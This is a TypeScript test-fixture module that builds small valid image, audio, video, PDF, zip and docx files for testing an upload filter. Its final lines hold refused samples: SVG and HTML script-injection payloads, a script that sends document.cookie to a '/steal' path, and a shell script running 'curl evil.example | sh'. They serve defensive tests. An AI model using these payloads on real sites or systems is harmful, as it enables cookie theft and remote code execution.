import { crc32, deflateSync } from 'node:zlib'

/**
 * Small, valid files of every accepted kind (and some refused ones), built in code so no
 * binaries are committed. Each carries what `file-type` and `image-size` need to recognise it.
 */

const u32be = (n: number) => {
  const b = Buffer.alloc(4)
  b.writeUInt32BE(n)
  return b
}
const u32le = (n: number) => {
  const b = Buffer.alloc(4)
  b.writeUInt32LE(n)
  return b
}
const u16le = (n: number) => {
  const b = Buffer.alloc(2)
  b.writeUInt16LE(n)
  return b
}

function pngChunk(type: string, data: Buffer): Buffer {
  const typed = Buffer.concat([Buffer.from(type, 'ascii'), data])
  return Buffer.concat([u32be(data.length), typed, u32be(crc32(typed))])
}

/** A real RGB PNG of `width`×`height` (a gradient), decodable by any viewer. */
export function png(width = 3, height = 2): Buffer {
  const header = Buffer.concat([u32be(width), u32be(height), Buffer.from([8, 2, 0, 0, 0])])
  const rows: Buffer[] = []
  for (let y = 0; y < height; y++) {
    const row = Buffer.alloc(1 + width * 3)
    for (let x = 0; x < width; x++) row.set([(x * 40) & 255, (y * 60) & 255, 128], 1 + x * 3)
    rows.push(row)
  }
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.concat(rows))),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

/** JPEG markers up to a baseline SOF0 frame header (what sniffers and size readers look at). */
export function jpeg(width = 5, height = 4): Buffer {
  const app0 = Buffer.from([0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00])
  const sof0 = Buffer.from([
    0xff,
    0xc0,
    0x00,
    0x11,
    0x08,
    height >> 8,
    height & 255,
    width >> 8,
    width & 255,
    0x03,
    1,
    0x22,
    0,
    2,
    0x11,
    1,
    3,
    0x11,
    1,
  ])
  return Buffer.concat([Buffer.from([0xff, 0xd8]), app0, sof0, Buffer.from([0xff, 0xd9])])
}

export function gif(width = 7, height = 6): Buffer {
  return Buffer.concat([Buffer.from('GIF89a', 'ascii'), u16le(width), u16le(height), Buffer.from([0, 0, 0, 0x3b])])
}

/** Lossless WebP (VP8L) header with its 14-bit dimensions. */
export function webp(width = 9, height = 8): Buffer {
  const bits = (width - 1) | ((height - 1) << 14)
  const vp8l = Buffer.concat([Buffer.from([0x2f]), u32le(bits), Buffer.alloc(3)])
  const chunk = Buffer.concat([Buffer.from('VP8L', 'ascii'), u32le(vp8l.length), vp8l])
  return Buffer.concat([Buffer.from('RIFF', 'ascii'), u32le(4 + chunk.length), Buffer.from('WEBP', 'ascii'), chunk])
}

/** PCM WAV, mono 8 kHz, `samples` bytes of a square wave. */
export function wav(samples = 800): Buffer {
  const data = Buffer.alloc(samples)
  for (let i = 0; i < samples; i++) data[i] = i % 20 < 10 ? 200 : 56
  const fmt = Buffer.concat([Buffer.from('fmt ', 'ascii'), u32le(16), u16le(1), u16le(1), u32le(8000), u32le(8000), u16le(1), u16le(8)])
  const body = Buffer.concat([Buffer.from('WAVE', 'ascii'), fmt, Buffer.from('data', 'ascii'), u32le(samples), data])
  return Buffer.concat([Buffer.from('RIFF', 'ascii'), u32le(body.length), body])
}

/** MPEG-1 Layer III frames (128 kbit/s, 44.1 kHz), silent. */
export function mp3(frames = 3): Buffer {
  const frame = Buffer.alloc(417)
  frame.set([0xff, 0xfb, 0x90, 0x64])
  return Buffer.concat(Array.from({ length: frames }, () => frame))
}

export function ogg(): Buffer {
  const page = Buffer.alloc(58)
  page.write('OggS', 0, 'ascii')
  page.set([0x01], 28)
  page.write('vorbis', 29, 'ascii')
  return page
}

/** An ISO-BMFF `ftyp` box with `brand` (isom → mp4, qt → quicktime, M4A → m4a), then `filler` bytes of `mdat`. */
export function isoMedia(brand = 'isom', filler = 256): Buffer {
  const ftyp = Buffer.concat([
    u32be(24),
    Buffer.from('ftyp', 'ascii'),
    Buffer.from(brand.padEnd(4, ' '), 'ascii'),
    u32be(0x200),
    Buffer.from(`${brand.padEnd(4, ' ')}mp41`, 'ascii'),
  ])
  const mdat = Buffer.concat([u32be(8 + filler), Buffer.from('mdat', 'ascii'), Buffer.alloc(filler, 7)])
  return Buffer.concat([ftyp, mdat])
}
export const mp4 = (filler?: number) => isoMedia('isom', filler)

const box = (type: string, ...payload: Buffer[]) => {
  const body = Buffer.concat(payload)
  return Buffer.concat([u32be(8 + body.length), Buffer.from(type, 'ascii'), body])
}

/** A version-0 `tkhd` (track header) with the picture size in 16.16 fixed point. */
function tkhd(width: number, height: number): Buffer {
  const body = Buffer.alloc(4 + 20 + 52 + 8)
  body.writeUInt32BE(width * 65536, 76)
  body.writeUInt32BE(height * 65536, 80)
  return box('tkhd', body)
}

/**
 * An MP4 with a sound track (0×0) and a `width`×`height` video track; `moov` after `mdat`
 * (as cameras write it) unless `moovFirst` (as "fast start" files do).
 */
export function mp4WithTracks(width: number, height: number, moovFirst = false): Buffer {
  const ftyp = isoMedia('isom', 0).subarray(0, 24)
  const moov = box('moov', box('mvhd', Buffer.alloc(100)), box('trak', tkhd(0, 0)), box('trak', tkhd(width, height)))
  const mdat = box('mdat', Buffer.alloc(512, 1))
  return Buffer.concat(moovFirst ? [ftyp, moov, mdat] : [ftyp, mdat, moov])
}
export const mov = () => isoMedia('qt')
export const m4a = () => isoMedia('M4A')

/** EBML header with DocType `webm`. */
export function webm(): Buffer {
  const header = Buffer.from([
    0x1a, 0x45, 0xdf, 0xa3, 0x9f, 0x42, 0x86, 0x81, 0x01, 0x42, 0xf7, 0x81, 0x01, 0x42, 0xf2, 0x81, 0x04, 0x42, 0xf3, 0x81, 0x08, 0x42,
    0x82, 0x84, 0x77, 0x65, 0x62, 0x6d, 0x42, 0x87, 0x81, 0x04, 0x42, 0x85, 0x81, 0x02,
  ])
  return Buffer.concat([header, Buffer.alloc(64)])
}

/** An EBML element: id bytes, an 8-byte size (or "unknown" for a live Segment), payload. */
function ebml(id: number[], payload: Buffer, unknownSize = false): Buffer {
  const size = Buffer.alloc(8)
  if (unknownSize) size.fill(0xff, 1)
  else size.writeBigUInt64BE(BigInt(payload.length))
  size[0] = 0x01
  return Buffer.concat([Buffer.from(id), size, payload])
}
const uint = (id: number[], value: number) => ebml(id, Buffer.from([value >> 8, value & 255]))

/**
 * A WebM whose Segment (unknown size, as recorders write it) holds Info, Tracks and a Cluster.
 * `video` adds a video track of that size; there is always an Opus audio track.
 */
export function webmWithTracks(video?: { width: number; height: number }): Buffer {
  const header = webm().subarray(0, 36)
  const audio = ebml([0xae], Buffer.concat([uint([0xd7], 1), uint([0x83], 2), ebml([0x86], Buffer.from('A_OPUS'))]))
  const picture = video
    ? ebml(
        [0xae],
        Buffer.concat([
          uint([0xd7], 2),
          uint([0x83], 1),
          ebml([0xe0], Buffer.concat([uint([0xb0], video.width), uint([0xba], video.height)])),
        ]),
      )
    : Buffer.alloc(0)
  const tracks = ebml([0x16, 0x54, 0xae, 0x6b], Buffer.concat([audio, picture]))
  const info = ebml([0x15, 0x49, 0xa9, 0x66], uint([0x2a, 0xd7, 0xb1], 1000))
  const cluster = ebml([0x1f, 0x43, 0xb6, 0x75], Buffer.alloc(256, 3))
  return Buffer.concat([header, ebml([0x18, 0x53, 0x80, 0x67], Buffer.concat([info, tracks, cluster]), true)])
}

export function pdf(): Buffer {
  return Buffer.from(
    '%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
    'latin1',
  )
}

/** A stored (uncompressed) zip archive of `entries`. */
export function zip(entries: Record<string, string | Buffer>): Buffer {
  const locals: Buffer[] = []
  const centrals: Buffer[] = []
  let offset = 0
  for (const [name, content] of Object.entries(entries)) {
    const data = Buffer.isBuffer(content) ? content : Buffer.from(content)
    const fileName = Buffer.from(name)
    const crc = crc32(data)
    const common = Buffer.concat([
      u16le(20),
      u16le(0),
      u16le(0),
      u16le(0),
      u16le(0x21),
      u32le(crc),
      u32le(data.length),
      u32le(data.length),
      u16le(fileName.length),
      u16le(0),
    ])
    const local = Buffer.concat([u32le(0x04034b50), common, fileName, data])
    centrals.push(Buffer.concat([u32le(0x02014b50), u16le(20), common, u16le(0), u16le(0), u16le(0), u32le(0), u32le(offset), fileName]))
    locals.push(local)
    offset += local.length
  }
  const central = Buffer.concat(centrals)
  const count = Object.keys(entries).length
  const end = Buffer.concat([
    u32le(0x06054b50),
    u16le(0),
    u16le(0),
    u16le(count),
    u16le(count),
    u32le(central.length),
    u32le(offset),
    u16le(0),
  ])
  return Buffer.concat([...locals, central, end])
}

export function docx(): Buffer {
  return zip({
    '[Content_Types].xml':
      '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    'word/document.xml':
      '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>',
  })
}

export const text = () => Buffer.from('Meeting notes\n- ünïcödé is fine\n- tabs\tare fine too\n')
export const svg = () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>')
export const svgWithProlog = () =>
  Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
export const html = () => Buffer.from('<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>')
export const script = () => Buffer.from('<script>fetch("/steal?c=" + document.cookie)</script>')
export const shellScript = () => Buffer.from('#!/bin/sh\ncurl evil.example | sh\n')
export const elf = () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)])
